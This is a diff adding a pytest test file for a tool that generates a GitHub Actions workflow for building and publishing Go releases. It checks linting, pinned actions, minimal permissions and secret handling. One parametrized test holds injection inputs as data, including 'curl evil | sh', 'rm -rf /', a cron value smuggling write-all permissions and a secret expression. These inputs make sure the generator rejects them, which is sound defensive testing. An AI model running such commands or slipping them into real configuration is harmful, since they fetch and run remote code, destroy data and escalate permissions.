@@ -1,0 +1,144 @@
+"""The CI workflow: actionlint and GitHub's own schema accept it, and secrets stand where they are used alone."""
+
+import json
+import subprocess
+import sys
+import sysconfig
+from pathlib import Path
+from typing import Any
+
+import pytest
+from goserver import serving
+from ruamel.yaml import YAML
+from site_fixtures import toy_build
+
+from gobuild import upstream
+from gobuild.console import Console
+from gobuild.errors import ConfigError
+from gobuild.pipeline import Session
+from gobuild.publish import workflow as workflows
+from gobuild.publish.site import publish
+from gobuild.publish.ways import routes, ways
+from gobuild.settings import Settings
+
+SETTINGS = Settings(name="go-acme", base_url="https://go.acme.example", suffix="acme1.{id}")
+
+
+def _job(**more: Any) -> workflows.Job:
+    words: dict[str, Any] = {
+        "lines": ("stable", "1.22"),
+        "targets": ("darwin/arm64", "linux/amd64"),
+        "cron": "23 5 * * *",
+        "branch": "main",
+        "requirement": "gobuild==0.1.0",
+    }
+    return workflows.Job(**(words | more))
+
+
+@pytest.fixture(scope="module")
+def text() -> str:
+    return workflows.workflow(SETTINGS, _job())
+
+
+@pytest.fixture(scope="module")
+def document(text: str) -> Any:
+    return YAML(typ="safe").load(text)
+
+
+def test_actionlint_finds_nothing(text: str, tmp_path: Path) -> None:
+    (tmp_path / "gobuild.yml").write_text(text)
+    program = Path(sysconfig.get_path("scripts")) / "actionlint"
+    seen = subprocess.run([program, "gobuild.yml"], cwd=tmp_path, capture_output=True, text=True, check=False)
+    assert (seen.returncode, seen.stdout) == (0, ""), seen.stdout + seen.stderr
+    (tmp_path / "bad.yml").write_text(text.replace("needs: upstream", "needs: nobody"))
+    assert subprocess.run([program, "bad.yml"], cwd=tmp_path, capture_output=True, check=False).returncode == 1
+
+
+def test_it_fits_githubs_schema(text: str, tmp_path: Path) -> None:
+    (tmp_path / "gobuild.yml").write_text(text)
+    words = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-workflows", "gobuild.yml"]
+    seen = subprocess.run(words, cwd=tmp_path, capture_output=True, text=True, check=False)
+    assert seen.returncode == 0, seen.stdout
+
+
+def test_actions_are_pinned_and_permissions_minimal(document: Any) -> None:
+    assert document["permissions"] == {"contents": "read"}
+    uses = [step["uses"] for job in document["jobs"].values() for step in job["steps"] if "uses" in step]
+    assert len(uses) >= 6
+    for each in uses:
+        name, at, commit = each.partition("@")
+        assert name.startswith("actions/") and at and len(commit) == 40 and set(commit) <= set("0123456789abcdef")
+
+
+def test_secrets_are_in_the_steps_that_use_them_alone(document: Any) -> None:
+    for name, job in document["jobs"].items():
+        assert "secrets." not in json.dumps(job.get("env", {}))
+        for step in job["steps"]:
+            has = "secrets." in json.dumps(step)
+            assert not has or name == "publish"
+            assert "secrets." not in step.get("run", "")  # only by the environment: no value becomes shell
+            if has:
+                assert "pip" not in step["run"]
+    assert "secrets." not in json.dumps(document.get("env", {}))
+    assert document["jobs"]["publish"]["environment"] == "publish"
+
+
+def test_no_expression_stands_in_a_script(document: Any) -> None:
+    for job in document["jobs"].values():
+        assert not [step for step in job["steps"] if "${{" in step.get("run", "")]
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"lines": ()},
+        {"lines": ("1.22; rm -rf /",)},
+        {"targets": ("plan9/386",)},
+        {"cron": '* * * * *"\npermissions: write-all'},
+        {"branch": "a b"},
+        {"requirement": "gobuild; curl evil | sh"},
+        {"requirement": "${{ secrets.SIGN_KEY }}"},
+    ],
+)
+def test_words_that_cannot_stand_in_it_are_refused(change: dict[str, Any]) -> None:
+    with pytest.raises(ConfigError):
+        _job(**change)
+
+
+def test_it_must_know_where_the_tree_is_served() -> None:
+    with pytest.raises(ConfigError, match="where the tree is served"):
+        workflows.workflow(Settings(), _job())
+
+
+def test_a_series_of_hostile_name_is_only_text() -> None:
+    series = 'a"\n  run: evil\n#'
+    made = workflows.workflow(Settings(base_url="https://x.example", series=series), _job())
+    assert YAML(typ="safe").load(made)["env"]["INVOKE_GOBUILD_SERIES"] == series
+
+
+def test_what_is_not_published_is_wanted(tmp_path: Path) -> None:
+    """The stamp decides: a release that is published is not built again, unless a patch of its own changes it."""
+    with serving() as server:
+        name = "go1.22.10.src.tar.gz"
+        server.add("go1.22.10", name, b"nobody asks for it")
+        site = tmp_path / "site"
+        settings = Settings(base_url=site.as_uri(), index_url=server.url, cache=tmp_path / "cache", suffix="acme1.{id}")
+        session = Session(settings=settings, console=Console(stream=sys.stderr))
+        site.mkdir()
+        (first,) = upstream.wanted(session, ["1.22"], ["linux/amd64"])
+        assert first["target"] == "linux/amd64" and first["dashed"] == "linux-amd64"
+        toy_build(tmp_path / "dist", stamp=first["stamp"])
+        note = print
+        publish(
+            [tmp_path / "dist"],
+            site,
+            name="go-acme",
+            base_url="",
+            routes=routes(key=None, author="A <a@b.example>", note=note),
+            ways=ways(None),
+        )
+        assert upstream.wanted(session, ["1.22"], ["linux/amd64"]) == []
+        assert upstream.wanted(session, ["1.22"], ["linux/amd64"], force=True) == [first]
+        (other,) = upstream.wanted(session, ["1.22"], ["linux/amd64", "darwin/arm64"])
+        assert other["target"] == "darwin/arm64"
+        assert workflows.output([first]).count("\n") == 0
